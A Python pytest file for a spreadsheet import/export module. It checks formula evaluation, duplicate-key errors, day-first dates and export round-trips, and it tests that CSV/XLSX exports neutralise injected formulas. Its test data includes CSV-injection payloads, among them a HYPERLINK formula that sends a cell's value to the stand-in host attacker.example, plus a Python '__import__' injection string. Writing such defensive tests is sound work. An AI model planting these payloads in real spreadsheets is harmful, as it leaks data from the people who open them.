"""Sheets that lie or smuggle: formulas without values, keys named twice, formulas in exported text,
slash dates; and an export imported back into the database is the identity, order included."""

from __future__ import annotations

import csv
from datetime import date

import openpyxl
import pytest

from integrations.demo import load_group
from integrations.store import open_store
from integrations.tabular import KINDS, read_rows, write_rows
from integrations.services.transfer import export_file, import_file
from sharing.demo import demo_group
from consortium.errors import RowError

from tabular_objects import ALL


def _workbook(path, rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)  # written by a program: formulas have no cached value
    return path


def _employee_rows(tmp_path, weekly_hours):
    write_rows("employees", ALL["employees"]()[:1], tmp_path / "one.xlsx")
    rows = [list(r) for r in openpyxl.load_workbook(tmp_path / "one.xlsx").active.iter_rows(values_only=True)]
    rows[1][rows[0].index("weekly_hours")] = weekly_hours
    return _workbook(tmp_path / "formula.xlsx", rows)


def test_a_formula_without_a_cached_value_is_computed_not_read_as_empty(tmp_path):
    [(_, employee)] = read_rows("employees", _employee_rows(tmp_path, "=28*1"))
    assert employee.contract.weekly_hours == 28  # not the default 35
    [(_, employee)] = read_rows("employees", _employee_rows(tmp_path, "=(3.5+0.5)*4"))
    assert employee.contract.weekly_hours == 16


@pytest.mark.parametrize("formula", ["=SUM(A1:A3)", "=B2*2", "=1/0", "=__import__('os')"])
def test_a_formula_that_is_not_plain_arithmetic_is_refused_at_its_row_and_column(tmp_path, formula):
    with pytest.raises(RowError) as caught:
        read_rows("employees", _employee_rows(tmp_path, formula))
    [problem] = caught.value.problems
    assert problem.startswith(f"formula.xlsx:2: column weekly_hours: formula {formula} has no computed value")


@pytest.mark.parametrize("kind", KINDS)
def test_a_file_naming_the_same_key_twice_is_refused_with_both_rows(kind, tmp_path):
    path = tmp_path / f"{kind}.csv"
    first = ALL[kind]()[0]
    write_rows(kind, [first, first], path)
    with pytest.raises(RowError) as caught:
        read_rows(kind, path)
    [problem] = caught.value.problems
    assert problem.startswith(f"{kind}.csv:3: column ") and "(first on row 2)" in problem, problem


DANGEROUS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+33 1 23", "-2+3", "@SUM(A1)", "\tcmd"]


def _requests_with_notes():
    [request, *_] = ALL["requests"]()
    return [request.model_copy(update={"code": f"R-{i}", "note": note}) for i, note in enumerate(DANGEROUS)]


def test_no_formula_survives_a_csv_export_and_the_notes_come_back_unchanged(tmp_path):
    path = tmp_path / "requests.csv"
    write_rows("requests", _requests_with_notes(), path)
    with path.open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or c.startswith("-") and not _number(c)]
    assert [r.note for _, r in read_rows("requests", path)] == [n.strip() for n in DANGEROUS]  # text is stripped


def test_no_formula_survives_an_xlsx_export_and_negative_numbers_stay_numbers(tmp_path):
    requests, employees = tmp_path / "requests.xlsx", tmp_path / "employees.xlsx"
    write_rows("requests", _requests_with_notes(), requests)
    write_rows("employees", ALL["employees"](), employees)
    for path in (requests, employees):
        sheet = openpyxl.load_workbook(path).active
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    sheet = openpyxl.load_workbook(requests).active
    notes = [row[sheet[1].index(next(c for c in sheet[1] if c.value == "note"))] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in notes] == [(n, "s") for n in DANGEROUS]
    header = [c.value for c in openpyxl.load_workbook(employees).active[1]]
    longitudes = [row[header.index("home_longitude")] for row in openpyxl.load_workbook(employees).active.iter_rows(
        min_row=2, values_only=True)]
    assert -1.5 in longitudes  # a number, not the text "'-1.5"
    assert [r.note for _, r in read_rows("requests", requests)] == [n.strip() for n in DANGEROUS]


def _number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_slash_dates_are_read_day_first_as_french_files_write_them(tmp_path):
    path = tmp_path / "absences.csv"
    path.write_text("employee,start,end\nE003,03/02/2025 08:00,04/02/2025 17:00\n", encoding="utf-8")
    [(_, absence)] = read_rows("absences", path)
    assert (absence.start.date(), absence.end.date()) == (date(2025, 2, 3), date(2025, 2, 4))


@pytest.fixture
def demo_store(tmp_path):
    store = open_store(f"sqlite:///{tmp_path}/demo.db")
    with store.session() as repo:
        load_group(repo, demo_group())
    yield store
    store.close()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_imported_back_is_the_identity_for_every_sheet_order_included(demo_store, tmp_path, suffix):
    with demo_store.session() as repo:
        before = {m.code: [s.code for s in m.sites] for m in repo.people.list_members()}
        # A member whose sites are not in code order: the order must survive.
        assert any(codes != sorted(codes) for codes in before.values()) or _reverse_sites(repo, before)
        before = {m.code: [s.code for s in m.sites] for m in repo.people.list_members()}
    fresh = open_store(f"sqlite:///{tmp_path}/fresh.db")
    try:
        for kind in KINDS:
            first, second = tmp_path / f"{kind}{suffix}", tmp_path / f"again-{kind}{suffix}"
            with demo_store.session() as repo:
                export_file(repo, kind, first)
                report = import_file(repo, kind, first)
            assert (report.added, report.updated, report.unchanged) == (0, 0, report.rows), kind
            with demo_store.session() as repo:
                export_file(repo, kind, second)
            assert _content(second) == _content(first), kind
        with fresh.session() as repo:
            load_group(repo, demo_group().model_copy(update={"members": [], "employees": [], "absences": [],
                                                             "requests": []}))
            for kind in KINDS:
                assert import_file(repo, kind, tmp_path / f"{kind}{suffix}").added > 0, kind
        with fresh.session() as repo:
            assert {m.code: [s.code for s in m.sites] for m in repo.people.list_members()} == before
            for kind in KINDS:
                export_file(repo, kind, tmp_path / f"fresh-{kind}{suffix}")
        for kind in KINDS:
            assert _content(tmp_path / f"fresh-{kind}{suffix}") == _content(tmp_path / f"{kind}{suffix}"), kind
    finally:
        fresh.close()


def _reverse_sites(repo, codes):
    member = next(m for m in repo.people.list_members() if len(m.sites) > 1)
    repo.people.save_member(member.model_copy(update={"sites": list(reversed(member.sites))}))
    return True


def _content(path):
    if path.suffix == ".csv":
        return path.read_bytes()
    return [list(row) for row in openpyxl.load_workbook(path).active.iter_rows(values_only=True)]


def test_an_import_reports_added_updated_unchanged_and_changes_only_with_update(demo_store, tmp_path):
    from integrations.tabular import write_template

    path = tmp_path / "staff.csv"
    with demo_store.session() as repo:
        [first, second, *_] = repo.people.list_employees()
    renamed = first.model_copy(update={"first_name": "Renamed"})
    write_rows("employees", [renamed, second], path)
    with demo_store.session() as repo, pytest.raises(RowError) as caught:
        import_file(repo, "employees", path)
    assert caught.value.problems == [
        f"staff.csv:2: column code: employee {first.code} already exists with other values (first_name); "
        "pass --update to replace it"]
    with demo_store.session() as repo:
        assert repo.people.get_employee(first.code).first_name == first.first_name  # nothing written
        report = import_file(repo, "employees", path, update=True)
        assert (report.added, report.updated, report.unchanged) == (0, 1, 1)
        assert repo.people.get_employee(first.code).first_name == "Renamed"
    template = tmp_path / "template.csv"
    write_template("employees", template)
    with demo_store.session() as repo:
        count = len(repo.people.list_employees())
        report = import_file(repo, "employees", template)
        assert ((report.added, report.updated, report.unchanged, len(repo.people.list_employees()))
                == (1, 0, 0, count + 1))
